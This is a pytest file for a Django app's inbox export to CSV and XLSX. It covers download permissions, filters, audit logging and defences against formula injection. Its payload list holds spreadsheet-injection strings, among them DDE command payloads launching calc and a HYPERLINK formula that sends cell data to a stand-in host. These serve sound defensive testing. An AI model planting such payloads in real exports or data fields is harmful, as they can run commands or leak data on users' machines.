"""The download of the inbox: who may, what is in it, and that no spreadsheet runs it."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.utils import timezone
from openpyxl import load_workbook  # type: ignore[import-untyped]
from wagtail.models import ModelLogEntry, Site

from enquiries.inbox.spreadsheet import harmless
from enquiries.models import Enquiry
from enquiries.work import assign
from tests.enquiries.conftest import CANARY_NAME, inbox_url, logged_in, stored
from tests.enquiries.many import many_enquiries
from tests.factories import make_user

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.test?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
]
HARMLESS = ["knee pain", "2 = 3", "it hurts - a lot", "दर्द", "", "(=1)"]


def csv_rows(response) -> list[dict[str, str]]:
    """The lines of a CSV answer."""
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_cells(response) -> list[list]:
    """The cells of an XLSX answer."""
    content = io.BytesIO(b"".join(response.streaming_content))
    return [list(row) for row in load_workbook(content).active.iter_rows()]


def export(client, form: str, **query):
    """Download the list."""
    return client.get(inbox_url("list"), {"export": form, **query})


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_formula_becomes_a_text(payload):
    assert harmless(payload).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_no_cell_of_a_csv_begins_like_a_formula(triage):
    for payload in PAYLOADS:
        many_enquiries(1, name=payload.replace("\x00", " "), message=payload.replace("\x00", " "))

    rows = csv_rows(export(triage, "csv"))

    assert len(rows) == len(PAYLOADS)
    for cell in (cell for row in rows for cell in row.values()):
        assert cell.lstrip("\u200b\ufeff \r\n\t")[:1] not in {*"=+-@＝＋－＠﹢"}, cell


def test_every_cell_of_an_xlsx_is_a_text_or_a_number(triage):
    for payload in [*PAYLOADS, "\x0b vertical tab", "#N/A", "\ufffe"]:
        many_enquiries(1, name=payload.replace("\x00", " "), first_contact_minutes=3)

    header, *rows = xlsx_cells(export(triage, "xlsx"))

    assert len(rows) == len(PAYLOADS) + 3
    assert {cell.data_type for row in rows for cell in row} <= {"s", "inlineStr", "n"}
    minutes = [cell.value for cell in header].index("Minutes to first contact")
    assert {row[minutes].value for row in rows} == {3}


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_list_is_downloaded_as_it_is_filtered(triage, form):
    stored(phone="+919876543210")
    many_enquiries(2, state="closed", name="Somebody else")

    response = export(triage, form, state="new")

    assert f"enquiries-{timezone.localdate():%Y-%m-%d}.{form}" in response["Content-Disposition"]
    if form == "csv":
        (found,) = csv_rows(response)
    else:
        header, row = xlsx_cells(response)
        found = {cell.value: value.value for cell, value in zip(header, row, strict=True)}
    assert (found["Name"], found["Phone"], found["State"]) == (CANARY_NAME, "098765 43210", "New")
    assert found["Message"].startswith("canarymessage")


def test_a_filter_that_cannot_be_read_downloads_nothing(triage):
    stored()

    assert csv_rows(export(triage, "csv", state="nonsense")) == []


def test_a_download_is_logged_without_what_was_searched(triage, triage_user):
    stored()

    list(export(triage, "csv", q=CANARY_NAME, state="new").streaming_content)

    (entry,) = ModelLogEntry.objects.filter(action="enquiries.export")
    assert entry.user == triage_user
    assert entry.data["rows"] == 1
    assert entry.data["filters"] == ["q", "state"]
    assert "Canary" not in f"{entry.label} {entry.data}"


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_physiotherapist_may_not_download_even_their_own(physio, physio_user, triage_user, form):
    assign(stored().pk, physio_user, by=triage_user)

    response = export(physio, form)

    assert response.status_code == 302
    assert "export=" not in physio.get(inbox_url("list")).content.decode()
    assert not ModelLogEntry.objects.filter(action="enquiries.export").exists()


def test_who_may_download_but_not_triage_gets_their_own_rows_only(physio_user, triage_user):
    physio_user.user_permissions.add(Permission.objects.get(codename="export_enquiry"))
    mine = assign(stored().pk, physio_user, by=triage_user)
    stored()

    rows = csv_rows(export(logged_in(physio_user), "csv", view="all"))

    assert [row["Reference"] for row in rows] == [mine.reference]


@pytest.mark.parametrize("group", ["Editors", "Clinical reviewers"])
def test_whoever_writes_articles_downloads_nothing(group):
    stored()
    assert export(logged_in(make_user("writer", group)), "csv").status_code == 302


def test_a_download_that_would_be_too_long_is_refused_with_words(triage, monkeypatch):
    monkeypatch.setattr("enquiries.inbox.export.MOST_EXPORTED", 3)
    many_enquiries(4)

    response = triage.get(inbox_url("list"), {"export": "csv"}, follow=True)

    assert "choose a shorter time" in response.content.decode()
    assert not ModelLogEntry.objects.filter(action="enquiries.export").exists()


def test_an_unknown_format_is_the_list(triage):
    enquiry = stored()
    assert enquiry.reference in export(triage, "exe").content.decode()


def test_each_row_names_the_site_that_it_came_by(triage, library):
    brand = Site.objects.create(hostname="beta.example", root_page=library, site_name="Beta")
    Enquiry.objects.filter(pk=stored().pk).update(site=brand)
    Enquiry.objects.filter(pk=stored().pk).update(site=None)  # the site is gone
    sites = {row["Site"] for row in csv_rows(export(triage, "csv"))}
    assert sites == {"Beta", ""}
